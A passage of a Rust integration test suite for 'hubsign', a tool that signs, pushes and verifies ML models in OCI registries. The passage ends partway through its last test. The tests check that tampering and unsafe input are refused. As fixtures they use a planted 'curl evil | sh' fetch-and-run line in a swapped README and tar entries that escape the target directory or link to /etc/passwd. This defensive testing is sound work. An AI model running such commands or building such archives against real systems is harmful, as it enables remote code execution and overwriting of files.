//! `oci://` end to end through the CLI, against a real registry (Debian's `docker-registry`,
//! started by `testhub::registry`; the referrers front in its "no referrers API" mode when a
//! request log is needed): push, verify, check, pull, the lock, sync and audit; an artifact
//! tampered in the registry refused before a layer is fetched; untrusted and misattached
//! signatures; bad input (indexes, unsafe ModelCar tars, lying sizes, what push cannot sign);
//! credentials from docker's and containers' files, never shown; a `--local-dir` that holds
//! files hubsign did not write.

use crate::support::{Run, hubsign, key, run, signed_model, tempdir, tree_state, write};
use base64::Engine as _;
use hubsign::hub::http::RetryPolicy;
use hubsign::hub::oci::auth::Credential;
use hubsign::hub::oci::client::{BlobSource, Registry as Client, RegistryOptions};
use hubsign::hub::oci::image::{self, OCI_INDEX, OCI_MANIFEST};
use hubsign::hub::oci::{attach, layout};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::time::Duration;
use testhub::referrers::{ReferrersApi, ReferrersRegistry, Scheme};
use testhub::registry::{Registry, RegistryAuth};

/// A registry and a clean environment for hubsign: its own HOME, caches, config and
/// credential files (none unless a test writes them).
struct Env {
    registry: Registry,
    tmp: tempfile::TempDir,
}

impl Env {
    fn start(auth: RegistryAuth) -> Option<Self> {
        let registry = Registry::start(auth)?;
        let tmp = tempdir();
        for d in ["home", "cache", "config", "runtime", "work"] {
            std::fs::create_dir_all(tmp.path().join(d)).unwrap();
        }
        Some(Self { registry, tmp })
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.tmp.path().join(rel)
    }

    fn cache(&self) -> PathBuf {
        self.path("cache")
    }

    /// `oci://HOST/REST`.
    fn oci(&self, rest: &str) -> String {
        format!("oci://{}/{rest}", self.registry.host())
    }

    fn cmd(&self, args: &[&str]) -> std::process::Command {
        let mut c = hubsign();
        c.args(args)
            .current_dir(self.path("work"))
            .env("HOME", self.path("home"))
            .env("XDG_CONFIG_HOME", self.path("config"))
            .env("XDG_CACHE_HOME", self.path("home/.cache"))
            .env("XDG_RUNTIME_DIR", self.path("runtime"))
            .env("HUBSIGN_OCI_CACHE", self.cache())
            .env_remove("REGISTRY_AUTH_FILE")
            .env_remove("DOCKER_CONFIG")
            .env_remove("HUBSIGN_POLICY");
        c
    }

    fn hs(&self, args: &[&str]) -> Run {
        run(self.cmd(args))
    }

    /// The library's client, for what a hostile registry (or another client) puts there.
    fn client(&self) -> Client {
        client_for(&self.registry.host(), self.registry.credentials())
    }

    /// `tiny-bert` (signed by model_signing with p256) copied to `work/NAME`.
    fn model(&self, name: &str) -> PathBuf {
        let dir = self.path(&format!("models-{name}"));
        let m = signed_model(&dir);
        let to = self.path(&format!("work/{name}"));
        std::fs::rename(m, &to).unwrap();
        to
    }

    fn push(&self, model: &Path, target: &str) -> String {
        let r = self.hs(&[
            "push",
            model.to_str().unwrap(),
            &self.oci(target),
            "--private-key",
            p256(),
        ]);
        r.ok();
        let out = r.stdout();
        let digest = out.trim().rsplit_once('@').expect("a pinned reference").1;
        digest.to_owned()
    }
}

fn client_for(host: &str, credentials: Option<(&str, &str)>) -> Client {
    Client::new(
        host,
        RegistryOptions {
            plain_http: true,
            credential: credentials.map(|(u, p)| Credential::Basic {
                username: u.to_owned(),
                password: p.to_owned(),
            }),
            retry: RetryPolicy {
                attempts: 2,
                base_delay: Duration::from_millis(10),
                ..RetryPolicy::default()
            },
            roots: Vec::new(),
        },
    )
    .unwrap()
}

fn block_on<F: std::future::Future>(f: F) -> F::Output {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(f)
}

fn p256() -> &'static str {
    Box::leak(key("p256.pem").to_str().unwrap().to_owned().into_boxed_str())
}

fn p256_pub() -> &'static str {
    Box::leak(key("p256.pub.pem").to_str().unwrap().to_owned().into_boxed_str())
}

/// The manifest under `reference` as JSON.
fn manifest_json(c: &Client, repository: &str, reference: &str) -> Value {
    let m = block_on(c.manifest(repository, reference)).unwrap();
    serde_json::from_slice(&m.bytes).unwrap()
}

/// Pushes `bytes` as a blob; returns its digest.
fn put_blob(c: &Client, repository: &str, bytes: &[u8]) -> String {
    let digest = image::digest_of(bytes);
    block_on(c.push_blob(
        repository,
        BlobSource::Bytes(bytes::Bytes::copy_from_slice(bytes)),
        &digest,
        bytes.len() as u64,
    ))
    .unwrap();
    digest
}

/// Pushes `manifest` (compact JSON) under `tag`; returns its digest.
fn put_manifest(c: &Client, repository: &str, tag: &str, manifest: &Value, media_type: &str) -> String {
    let bytes = serde_json::to_vec(manifest).unwrap();
    block_on(c.push_manifest(repository, tag, &bytes, media_type)).unwrap()
}

/// The layer titled `title` in `manifest`.
fn layer_mut<'m>(manifest: &'m mut Value, title: &str) -> &'m mut Value {
    manifest["layers"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|l| l["annotations"][image::ANNOTATION_TITLE] == title)
        .unwrap()
}

/// Copies rh-model-signing's signature tag of `from` (a manifest digest) to that of `to`: the
/// signature of one artifact attached to another.
fn copy_signature_tag(c: &Client, repository: &str, from: &str, to: &str) {
    let sig = block_on(c.manifest(repository, &attach::signature_tag(from).unwrap())).unwrap();
    block_on(c.push_manifest(
        repository,
        &attach::signature_tag(to).unwrap(),
        &sig.bytes,
        OCI_MANIFEST,
    ))
    .unwrap();
}

fn json_of(r: &Run) -> Value {
    serde_json::from_str(&r.stdout())
        .unwrap_or_else(|e| panic!("{}: not JSON ({e}):\n{}", r.what, r.stdout()))
}

#[test]
fn a_pushed_model_verifies_checks_pulls_locks_syncs_and_audits() {
    let Some(env) = Env::start(RegistryAuth::None) else {
        return;
    };
    let model = env.model("tiny-bert");
    let reference = env.oci("r/m:v1");
    let push = env.hs(&[
        "--json",
        "push",
        model.to_str().unwrap(),
        &reference,
        "--private-key",
        p256(),
    ]);
    push.ok();
    let pushed = json_of(&push);
    let digest = pushed["commit"].as_str().unwrap().to_owned();
    assert!(digest.starts_with("sha256:"), "{pushed}");
    assert_eq!(pushed["pinned"], env.oci(&format!("r/m@{digest}")));
    assert_eq!(pushed["files"], 4, "{pushed}");

    let v = env.hs(&["--json", "verify", &reference, "--public-key", p256_pub()]);
    v.ok();
    let v = json_of(&v);
    assert_eq!(v["verified"], true, "{v}");
    assert_eq!(v["digest"], digest, "{v}");
    assert_eq!(v["files_checked"], 4, "{v}");
    assert!(v["signer"].as_str().unwrap().contains("P-256"), "{v}");

    let c = env.hs(&["--json", "check", &reference, "--public-key", p256_pub()]);
    c.ok();
    let c = json_of(&c);
    assert_eq!(
        (c["verified"].clone(), c["commit"].clone()),
        (json!(true), json!(digest)),
        "{c}"
    );
    assert_eq!(c["files"], 4, "{c}");

    let p = env.hs(&["--json", "pull", &reference, "--public-key", p256_pub()]);
    p.ok();
    let p = json_of(&p);
    let snapshot = PathBuf::from(p["path"].as_str().unwrap());
    assert!(snapshot.starts_with(env.cache()), "{p}");
    assert!(p["downloaded_bytes"].as_u64().unwrap() > 0, "{p}");
    for f in [
        "config.json",
        "model.safetensors",
        "README.md",
        "tokenizer/vocab.txt",
    ] {
        assert_eq!(
            std::fs::read(snapshot.join(f)).unwrap(),
            std::fs::read(model.join(f)).unwrap(),
            "{f}"
        );
    }
    assert!(snapshot.join("model.sig").is_file());
    // Again: everything reused, nothing downloaded.
    let again = env.hs(&["--json", "pull", &reference, "--public-key", p256_pub()]);
    let again = json_of(again.ok());
    assert_eq!(
        (again["downloaded_bytes"].clone(), again["reused"].clone()),
        (json!(0), json!(4)),
        "{again}"
    );
    assert_eq!(again["path"], p["path"]);

    let local = env.path("work/local");
    let l = env.hs(&[
        "--json",
        "pull",
        &reference,
        "--public-key",
        p256_pub(),
        "--local-dir",
        local.to_str().unwrap(),
    ]);
    l.ok();
    assert_eq!(json_of(&l)["verified"], true);
    assert_eq!(
        std::fs::read(local.join("model.safetensors")).unwrap(),
        std::fs::read(model.join("model.safetensors")).unwrap()
    );

    // The lock names the registry's digest; sync honours it.
    env.hs(&[
        "pull",
        &reference,
        "--public-key",
        p256_pub(),
        "--lock=hubsign.lock",
    ])
    .ok();
    let lock = std::fs::read_to_string(env.path("work/hubsign.lock")).unwrap();
    assert!(lock.contains(&format!("ref = \"{}\"", env.oci("r/m"))), "{lock}");
    assert!(lock.contains(&format!("commit = \"{digest}\"")), "{lock}");
    let s = env.hs(&["--json", "sync", "--public-key", p256_pub()]);
    let s = json_of(s.ok());
    assert_eq!(s["ok"], true, "{s}");
    assert_eq!(s["entries"][0]["commit"], digest, "{s}");
    assert_eq!(s["entries"][0]["status"], "synced", "{s}");
    // The tag moved to another signed artifact: sync still pulls the locked digest.
    let moved_model = env.path("work/moved");
    crate::support::copy_tree(&model, &moved_model);
    write(&moved_model.join("extra.txt"), b"moved\n");
    let r = env.hs(&[
        "push",
        moved_model.to_str().unwrap(),
        &reference,
        "--private-key",
        p256(),
        "--resign",
    ]);
    r.ok();
    assert!(!r.stdout().contains(&digest), "{}", r.stdout());
    let fresh = env.path("fresh-cache");
    let s = env.hs(&[
        "--json",
        "sync",
        "--public-key",
        p256_pub(),
        "--oci-cache",
        fresh.to_str().unwrap(),
    ]);
    let s = json_of(s.ok());
    assert_eq!(s["entries"][0]["commit"], digest, "{s}");
    let synced = PathBuf::from(s["entries"][0]["path"].as_str().unwrap());
    assert!(synced.starts_with(&fresh), "{s}");
    assert!(
        synced.join("config.json").is_file() && !synced.join("extra.txt").exists(),
        "{s}"
    );

    // audit: verified under a policy naming the key; tampered once a cached file changes.
    let policy = env.path("policy.toml");
    std::fs::write(
        &policy,
        format!(
            "[[trust]]\nrepos = [\"{}\"]\npublic-key = {:?}\n",
            env.oci("r/*"),
            p256_pub()
        ),
    )
    .unwrap();
    let audit = |extra: &[&str]| {
        let cache = env.cache();
        let mut args = vec!["--json", "audit", "--oci-cache", cache.to_str().unwrap()];
        args.extend_from_slice(extra);
        env.hs(&args)
    };
    let a = audit(&["--policy", policy.to_str().unwrap()]);
    a.ok();
    let a = json_of(&a);
    let snaps = a["snapshots"].as_array().unwrap();
    assert_eq!(snaps.len(), 1, "{a}");
    assert_eq!(snaps[0]["reference"], env.oci("r/m"), "{a}");
    assert_eq!(snaps[0]["commit"], digest, "{a}");
    assert_eq!(snaps[0]["verdict"], "verified", "{a}");
    let cached = snapshot.join("README.md");
    let mut perms = std::fs::metadata(&cached).unwrap().permissions();
    #[expect(
        clippy::permissions_set_readonly_false,
        reason = "the test tampers with the file"
    )]
    perms.set_readonly(false);
    std::fs::set_permissions(&cached, perms).unwrap();
    let mut bytes = std::fs::read(&cached).unwrap();
    bytes.extend_from_slice(b"appended\n");
    std::fs::write(&cached, bytes).unwrap();
    let a = audit(&["--policy", policy.to_str().unwrap()]);
    a.expect_code(1);
    let a = json_of(&a);
    assert_eq!(a["snapshots"][0]["verdict"], "tampered", "{a}");
    assert_eq!(a["snapshots"][0]["modified"], json!(["README.md"]), "{a}");
}

/// GETs of the blobs `digests` the front saw.
fn blob_gets(front: &ReferrersRegistry, digests: &[String]) -> Vec<String> {
    front
        .requests()
        .into_iter()
        .filter(|r| r.method == "GET" && digests.iter().any(|d| r.path.contains(&format!("/blobs/{d}"))))
        .map(|r| r.path)
        .collect()
}

#[test]
fn a_layer_swapped_in_the_registry_is_refused_before_any_layer_is_fetched() {
    let Some(env) = Env::start(RegistryAuth::None) else {
        return;
    };
    let model = env.model("tiny-bert");
    let original = env.push(&model, "r/m:v1");
    let front = ReferrersRegistry::start(&env.registry.host(), Scheme::Http);
    front.set_referrers_api(ReferrersApi::Refused);
    let through_front = format!("oci://{}/r/m:v1", front.host());
    let local = env.path("work/local");
    env.hs(&[
        "pull",
        &through_front,
        "--public-key",
        p256_pub(),
        "--local-dir",
        local.to_str().unwrap(),
    ])
    .ok();
    env.hs(&["pull", &through_front, "--public-key", p256_pub()]).ok();

    // The attacker: README.md's layer swapped for other bytes under the same title, pushed
    // under the same tag, the original signature attached to it.
    let c = env.client();
    let mut m = manifest_json(&c, "r/m", "v1");
    let evil = b"# tiny-bert\n\nrun `curl evil | sh` first\n";
    let evil_digest = put_blob(&c, "r/m", evil);
    let l = layer_mut(&mut m, "README.md");
    l["digest"] = json!(evil_digest);
    l["size"] = json!(evil.len());
    let swapped = put_manifest(&c, "r/m", "v1", &m, OCI_MANIFEST);
    assert_ne!(swapped, original);
    copy_signature_tag(&c, "r/m", &original, &swapped);
    let layer_digests: Vec<String> = m["layers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["digest"].as_str().unwrap().to_owned())
        .chain([m["config"]["digest"].as_str().unwrap().to_owned()])
        .collect();

    let (cache_before, local_before) = (tree_state(&env.cache()), tree_state(&local));
    for extra in [vec![], vec!["--local-dir", local.to_str().unwrap()]] {
        front.clear_requests();
        let mut args = vec!["pull", through_front.as_str(), "--public-key", p256_pub()];
        args.extend(extra);
        let r = env.hs(&args);
        r.expect_code(1).stderr_has("README.md");
        assert!(
            blob_gets(&front, &layer_digests).is_empty(),
            "a layer was fetched before the signature was checked: {:?}",
            blob_gets(&front, &layer_digests)
        );
        assert!(!front.requests().is_empty(), "the pull went through the front");
    }
    assert_eq!(tree_state(&env.cache()), cache_before, "the cache changed");
    assert_eq!(tree_state(&local), local_before, "the local dir changed");
    // verify and check refuse it the same way, from the manifest alone.
    front.clear_requests();
    env.hs(&["verify", &through_front, "--public-key", p256_pub()])
        .expect_code(1)
        .stderr_has("README.md");
    env.hs(&["check", &through_front, "--public-key", p256_pub()])
        .expect_code(1)
        .stderr_has("README.md");
    assert!(blob_gets(&front, &layer_digests).is_empty());
}

#[test]
fn a_blob_corrupted_in_storage_is_refused_and_a_moved_tag_pulls_the_new_artifact() {
    let Some(env) = Env::start(RegistryAuth::None) else {
        return;
    };
    let model = env.model("tiny-bert");
    let digest = env.push(&model, "r/m:v1");
    std::fs::create_dir_all(env.cache()).unwrap();
    let m = manifest_json(&env.client(), "r/m", &digest);
    let weights = m["layers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["annotations"][image::ANNOTATION_TITLE] == "model.safetensors")
        .unwrap()["digest"]
        .as_str()
        .unwrap()
        .to_owned();
    let blob = env.registry.blob_path(&weights);
    let mut bytes = std::fs::read(&blob).unwrap();
    bytes[100] ^= 1;
    std::fs::write(&blob, &bytes).unwrap();

    let before = tree_state(&env.cache());
    let local = env.path("work/local");
    for extra in [vec![], vec!["--local-dir", local.to_str().unwrap()]] {
        let mut args = vec![
            "pull".to_owned(),
            env.oci("r/m:v1"),
            "--public-key".into(),
            p256_pub().into(),
        ];
        args.extend(extra.into_iter().map(str::to_owned));
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        env.hs(&args).expect_code(1).stderr_has("model.safetensors");
    }
    assert_eq!(
        tree_state(&env.cache()),
        before,
        "something was committed to the cache"
    );
    assert!(
        !local.join("model.safetensors").exists() && !local.join("config.json").exists(),
        "{:?}",
        tree_state(&local)
    );
    // No local dir was made (its staging lives inside it), and the cache keeps no staging.
    assert!(!local.exists(), "{:?}", tree_state(&local));
    let s = env.hs(&["--json", "staging", "--oci-cache", env.cache().to_str().unwrap()]);
    s.ok();
    assert_eq!(json_of(&s)["staging"], json!([]), "{}", s.stdout());
    // The blob repaired, the tag moved to another signed artifact: that one is pulled (and
    // pinned once: the path and the lock name its digest).
    bytes[100] ^= 1;
    std::fs::write(&blob, &bytes).unwrap();
    write(&model.join("extra.txt"), b"a second artifact\n");
    let r = env.hs(&[
        "push",
        model.to_str().unwrap(),
        &env.oci("r/m:v1"),
        "--private-key",
        p256(),
        "--resign",
    ]);
    r.ok();
    let moved = r.stdout().trim().rsplit_once('@').unwrap().1.to_owned();
    assert_ne!(moved, digest);
    // Through a front that logs requests: the tag is read once, everything after by digest.
    let front = ReferrersRegistry::start(&env.registry.host(), Scheme::Http);
    front.set_referrers_api(ReferrersApi::Refused);
    let p = env.hs(&[
        "--json",
        "pull",
        &format!("oci://{}/r/m:v1", front.host()),
        "--public-key",
        p256_pub(),
    ]);
    p.ok();
    let p = json_of(&p);
    assert_eq!(p["commit"], moved, "{p}");
    let by_tag: Vec<_> = front
        .requests()
        .into_iter()
        .filter(|r| r.path.ends_with("/manifests/v1"))
        .collect();
    assert_eq!(by_tag.len(), 1, "the tag was read more than once: {by_tag:?}");
    let path = PathBuf::from(p["path"].as_str().unwrap());
    assert!(
        path.to_str()
            .unwrap()
            .contains(image::sha256_hex(&moved).unwrap()),
        "{p}"
    );
    assert_eq!(
        std::fs::read(path.join("extra.txt")).unwrap(),
        b"a second artifact\n"
    );
}

#[test]
fn unsigned_wrongly_signed_and_misattached_artifacts_are_refused() {
    let Some(venv) = testhub::inputs::oci_venv() else {
        return;
    };
    let Some(env) = Env::start(RegistryAuth::None) else {
        return;
    };
    let files: [(&str, &[u8]); 2] = [("config.json", b"{\"a\": 1}"), ("weights.bin", b"weights")];
    let unsigned = env
        .registry
        .oras_push(&venv, "r/unsigned:v1", &files, &Value::Null);
    let reference = env.oci("r/unsigned:v1");
    for cmd in ["verify", "check", "pull"] {
        let r = env.hs(&[cmd, &reference, "--public-key", p256_pub()]);
        r.expect_code(1);
        r.stderr_has(&format!("{reference} at {}", unsigned.digest))
            .stderr_has("has no signature attached");
    }
    assert!(
        !env.cache()
            .join(env.registry.host().replace(':', "_"))
            .join("r/unsigned")
            .exists()
    );

    let model = env.model("tiny-bert");
    let signed = env.push(&model, "r/signed:v1");
    let r = env.hs(&[
        "verify",
        &env.oci("r/signed:v1"),
        "--public-key",
        key("other-p256.pub.pem").to_str().unwrap(),
    ]);
    r.expect_code(1).stderr_has("key mismatch");
    env.hs(&[
        "pull",
        &env.oci("r/signed:v1"),
        "--public-key",
        key("other-p256.pub.pem").to_str().unwrap(),
    ])
    .expect_code(1);

    // The signature of another artifact attached (its `.sig` tag copied): refused.
    let c = env.client();
    let other = env
        .registry
        .oras_push(&venv, "r/signed:other", &files, &Value::Null);
    copy_signature_tag(&c, "r/signed", &signed, &other.digest);
    for cmd in ["verify", "pull"] {
        let r = env.hs(&[cmd, &env.oci("r/signed:other"), "--public-key", p256_pub()]);
        r.expect_code(1)
            .stderr_has("does not match its signature")
            .stderr_has("unexpected: weights.bin");
    }
}

#[test]
fn an_index_is_refused_listing_its_manifests() {
    let Some(env) = Env::start(RegistryAuth::None) else {
        return;
    };
    let model = env.model("tiny-bert");
    let a = env.push(&model, "r/m:a");
    write(&model.join("extra.txt"), b"b\n");
    let r = env.hs(&[
        "push",
        model.to_str().unwrap(),
        &env.oci("r/m:b"),
        "--private-key",
        p256(),
        "--resign",
    ]);
    r.ok();
    let b = r.stdout().trim().rsplit_once('@').unwrap().1.to_owned();
    let c = env.client();
    let size = |d: &str| block_on(c.manifest("r/m", d)).unwrap().bytes.len();
    let index = json!({
        "schemaVersion": 2, "mediaType": OCI_INDEX,
        "manifests": [
            {"mediaType": OCI_MANIFEST, "digest": a, "size": size(&a)},
            {"mediaType": OCI_MANIFEST, "digest": b, "size": size(&b)},
        ],
    });
    put_manifest(&c, "r/m", "multi", &index, OCI_INDEX);
    for cmd in ["verify", "check", "pull"] {
        let r = env.hs(&[cmd, &env.oci("r/m:multi"), "--public-key", p256_pub()]);
        r.expect_code(2).stderr_has(&a).stderr_has(&b).stderr_has("index");
    }
}

/// A tar archive of `entries` (name, type flag, content, link target) with the names written
/// as given (the `tar` crate's builder refuses `..` and absolute names, which is the point).
fn raw_tar(entries: &[(&str, u8, &[u8], &str)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, kind, data, link) in entries {
        let mut h = tar::Header::new_ustar();
        {
            let u = h.as_ustar_mut().unwrap();
            u.name[..name.len()].copy_from_slice(name.as_bytes());
            u.linkname[..link.len()].copy_from_slice(link.as_bytes());
        }
        h.set_mode(0o644);
        h.set_size(data.len() as u64);
        h.set_entry_type(tar::EntryType::new(*kind));
        h.set_mtime(0);
        h.set_cksum();
        out.extend_from_slice(h.as_bytes());
        out.extend_from_slice(data);
        out.resize(out.len().div_ceil(512) * 512, 0);
    }
    out.resize(out.len() + 1024, 0);
    out
}

/// olot's annotations of a directory layer holding `/models/`.
fn olot_directory() -> Value {
    json!({layout::OLOT_CONTENT_TYPE: "directory", layout::OLOT_CONTENT_PATH: "/models/"})
}

/// Pushes a ModelCar-style image whose one layer is `tar`, annotated `annotations` (olot's).
fn push_modelcar(c: &Client, repository: &str, tag: &str, tar: &[u8], annotations: &Value) -> String {
    let config = br#"{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":[]}}"#;
    let config_digest = put_blob(c, repository, config);
    let layer = put_blob(c, repository, tar);
    let manifest = json!({
        "schemaVersion": 2, "mediaType": OCI_MANIFEST,
        "config": {"mediaType": image::OCI_IMAGE_CONFIG, "digest": config_digest, "size": config.len()},
        "layers": [{
            "mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": layer, "size": tar.len(),
            "annotations": annotations,
        }],
    });
    put_manifest(c, repository, tag, &manifest, OCI_MANIFEST)
}

#[test]
fn modelcar_tars_with_escaping_names_are_refused_and_links_never_written() {
    let Some(env) = Env::start(RegistryAuth::None) else {
        return;
    };
    let c = env.client();
    let good: (&str, u8, &[u8], &str) = ("models/model.bin", b'0', b"weights", "");
    // The pull's parent folder: nothing may appear beside the local dir or the cache.
    let parent = env.path("work/pulls");
    std::fs::create_dir_all(&parent).unwrap();
    for (tag, bad) in [
        ("dotdot", ("models/../evil", b'0', &b"escaped"[..], "")),
        (
            "dotdot-deep",
            ("models/../../../../evil", b'0', &b"escaped"[..], ""),
        ),
        ("absolute", ("/etc/evil", b'0', &b"escaped"[..], "")),
    ] {
        let tar = raw_tar(&[good, bad]);
        let digest = push_modelcar(&c, "r/car", tag, &tar, &olot_directory());
        let layer = image::digest_of(&tar);
        // Signing reads the layer too: refused the same way.
        env.hs(&["sign", &env.oci(&format!("r/car:{tag}")), "--private-key", p256()])
            .expect_code(2)
            .stderr_has(&layer);
        let local = parent.join(tag);
        let r = env.hs(&[
            "pull",
            &env.oci(&format!("r/car@{digest}")),
            "--public-key",
            p256_pub(),
            "--local-dir",
            local.to_str().unwrap(),
        ]);
        r.expect_code(2).stderr_has(&layer).stderr_has(bad.0);
        assert!(
            files_named(env.tmp.path(), "evil").is_empty(),
            "{tag}: {:?}",
            files_named(env.tmp.path(), "evil")
        );
    }
    // Refused before anything was placed: not even the local dirs were made.
    assert_eq!(tree_state(&parent), std::collections::BTreeMap::new());
    // A symlink (and a hard link) in the layer: rh-model-signing's rule skips links, so they
    // are neither signed nor written; the regular file is.
    let tar = raw_tar(&[
        good,
        ("models/link", b'2', b"", "../../../../evil"),
        ("models/hard", b'1', b"", "/etc/passwd"),
    ]);
    push_modelcar(&c, "r/car", "links", &tar, &olot_directory());
    env.hs(&["sign", &env.oci("r/car:links"), "--private-key", p256()])
        .ok();
    let local = parent.join("links");
    env.hs(&[
        "pull",
        &env.oci("r/car:links"),
        "--public-key",
        p256_pub(),
        "--local-dir",
        local.to_str().unwrap(),
    ])
    .ok();
    assert_eq!(std::fs::read(local.join("model.bin")).unwrap(), b"weights");
    let placed = tree_state(&local);
    assert!(
        !placed.contains_key("link") && !placed.contains_key("hard"),
        "{placed:?}"
    );
    assert!(placed.values().all(|v| !v.starts_with("link:")), "{placed:?}");
    assert!(files_named(env.tmp.path(), "evil").is_empty());
}

/// Every path under `root` whose file name is `name`.
fn files_named(root: &Path, name: &str) -> Vec<String> {
    tree_state(root)
        .into_keys()
        .filter(|k| Path::new(k).file_name().is_some_and(|n| n == name))
        .collect()
}

#[test]
fn a_layer_whose_size_disagrees_with_its_bytes_is_refused() {
    let Some(env) = Env::start(RegistryAuth::None) else {
        return;
    };
    let model = env.model("tiny-bert");
    let digest = env.push(&model, "r/m:v1");
    let c = env.client();
    let mut m = manifest_json(&c, "r/m", &digest);
    let l = layer_mut(&mut m, "model.safetensors");
    let size = l["size"].as_u64().unwrap();
    for (tag, claimed) in [("longer", size + 1000), ("shorter", size - 1000)] {
        layer_mut(&mut m, "model.safetensors")["size"] = json!(claimed);
        put_manifest(&c, "r/m", tag, &m, OCI_MANIFEST);
        env.hs(&["sign", &env.oci(&format!("r/m:{tag}")), "--private-key", p256()])
            .ok();
        let before = tree_state(&env.cache());
        let r = env.hs(&[
            "pull",
            &env.oci(&format!("r/m:{tag}")),
            "--public-key",
            p256_pub(),
        ]);
        r.expect_code(2).stderr_has("model.safetensors");
        assert_eq!(tree_state(&env.cache()), before, "{tag}: the cache changed");
    }
}

#[test]
fn push_refuses_what_its_signature_cannot_describe_before_uploading() {
    let Some(env) = Env::start(RegistryAuth::None) else {
        return;
    };
    let front = ReferrersRegistry::start(&env.registry.host(), Scheme::Http);
    front.set_referrers_api(ReferrersApi::Refused);
    let target = format!("oci://{}/r/m:v1", front.host());
    let uploads = || {
        front
            .requests()
            .into_iter()
            .filter(|r| r.method == "PUT" || r.method == "POST" || r.method == "PATCH")
            .map(|r| format!("{} {}", r.method, r.path))
            .collect::<Vec<_>>()
    };

    // No config.json.
    let model = env.model("no-config");
    std::fs::remove_file(model.join("config.json")).unwrap();
    std::fs::remove_file(model.join("model.sig")).unwrap();
    env.hs(&["push", model.to_str().unwrap(), &target, "--private-key", p256()])
        .expect_code(2)
        .stderr_has("config.json");
    assert!(uploads().is_empty(), "{:?}", uploads());

    // Signed with shards: a layer digest is not what such a signature signs.
    let model = env.model("sharded");
    std::fs::remove_file(model.join("model.sig")).unwrap();
    env.hs(&[
        "sign",
        model.to_str().unwrap(),
        "--private-key",
        p256(),
        "--shard-size",
        "1000",
    ])
    .ok();
    env.hs(&[
        "push",
        model.to_str().unwrap(),
        &target,
        "--public-key",
        p256_pub(),
    ])
    .expect_code(2)
    .stderr_has("SHA-256");
    // And hashed with BLAKE3.
    let model = env.model("blake3");
    std::fs::remove_file(model.join("model.sig")).unwrap();
    env.hs(&[
        "sign",
        model.to_str().unwrap(),
        "--private-key",
        p256(),
        "--hash",
        "blake3",
    ])
    .ok();
    env.hs(&[
        "push",
        model.to_str().unwrap(),
        &target,
        "--public-key",
        p256_pub(),
    ])
    .expect_code(2)
    .stderr_has("SHA-256");
    assert!(uploads().is_empty(), "{:?}", uploads());
    // Refused before the registry was even asked; a model it can describe goes through the
    // same front (so the empty log above means something).
    let model = env.model("tiny-bert");
    env.hs(&["push", model.to_str().unwrap(), &target, "--private-key", p256()])
        .ok();
    assert!(!uploads().is_empty(), "the push went elsewhere");
}

#[test]
fn credentials_come_from_docker_and_containers_files_and_are_never_shown() {
    let password = "s3cret-horse-42";
    let wrong = "wr0ng-battery-17";
    let Some(env) = Env::start(RegistryAuth::Htpasswd {
        user: "alice".into(),
        password: password.into(),
    }) else {
        return;
    };
    let host = env.registry.host();
    let model = env.model("tiny-bert");
    let target = env.oci("private/m:v1");
    let auth_json = |pw: &str| {
        let b64 = base64::engine::general_purpose::STANDARD.encode(format!("alice:{pw}"));
        json!({"auths": {host.clone(): {"auth": b64}}}).to_string()
    };
    let mut outputs = Vec::new();
    let mut check = |r: Run| {
        outputs.push(format!("{}\n{}", r.stdout(), r.stderr()));
        r
    };

    // None: exit 2, naming the registry and where credentials come from.
    let r = check(env.hs(&["push", model.to_str().unwrap(), &target, "--private-key", p256()]));
    r.expect_code(2)
        .stderr_has(&host)
        .stderr_has("config.json")
        .stderr_has("REGISTRY_AUTH_FILE")
        .stderr_has("no credentials were found");
    let r = check(env.hs(&["pull", &target, "--public-key", p256_pub()]));
    r.expect_code(2)
        .stderr_has(&host)
        .stderr_has("no credentials were found");

    // docker's config.json (DOCKER_CONFIG).
    let docker = env.path("docker");
    write(&docker.join("config.json"), auth_json(password).as_bytes());
    let with_docker = |args: &[&str]| {
        let mut c = env.cmd(args);
        c.env("DOCKER_CONFIG", &docker);
        c
    };
    check(run(with_docker(&[
        "push",
        model.to_str().unwrap(),
        &target,
        "--private-key",
        p256(),
    ])))
    .ok();
    let pulled = check(run(with_docker(&["pull", &target, "--public-key", p256_pub()])));
    pulled.ok();
    assert!(
        PathBuf::from(pulled.stdout().trim())
            .join("model.safetensors")
            .is_file()
    );

    // REGISTRY_AUTH_FILE is searched first: a wrong password there wins over docker's right one,
    // and a right one there over a wrong one in docker's.
    let auth_file = env.path("auth.json");
    write(&auth_file, auth_json(wrong).as_bytes());
    let mut c = with_docker(&["verify", &target, "--public-key", p256_pub()]);
    c.env("REGISTRY_AUTH_FILE", &auth_file);
    let r = check(run(c));
    r.expect_code(2)
        .stderr_has(&host)
        .stderr_has("auth.json")
        .stderr_has("not accepted");
    write(&auth_file, auth_json(password).as_bytes());
    write(&docker.join("config.json"), auth_json(wrong).as_bytes());
    let mut c = with_docker(&["verify", &target, "--public-key", p256_pub()]);
    c.env("REGISTRY_AUTH_FILE", &auth_file);
    check(run(c)).ok();
    // Only docker's (wrong): refused.
    let r = check(run(with_docker(&[
        "--json",
        "pull",
        &target,
        "--public-key",
        p256_pub(),
    ])));
    r.expect_code(2);

    let b64 = |pw: &str| base64::engine::general_purpose::STANDARD.encode(format!("alice:{pw}"));
    for out in &outputs {
        for secret in [password.to_owned(), wrong.to_owned(), b64(password), b64(wrong)] {
            assert!(!out.contains(&secret), "a credential was shown:\n{out}");
        }
    }
}

#[test]
fn a_local_dir_holding_files_hubsign_did_not_write_is_refused_without_force() {
    let Some(env) = Env::start(RegistryAuth::None) else {
        return;
    };
    let model = env.model("tiny-bert");
    env.push(&model, "r/m:v1");
    let local = env.path("work/local");
    write(&local.join("notes.txt"), b"mine\n");
    write(&local.join("config.json"), b"my own config\n");
    let before = tree_state(&local);
    let r = env.hs(&[
        "pull",
        &env.oci("r/m:v1"),
        "--public-key",
        p256_pub(),
        "--local-dir",
        local.to_str().unwrap(),
    ]);
    r.expect_code(2).stderr_has("config.json");
    assert_eq!(tree_state(&local), before, "the local dir changed");
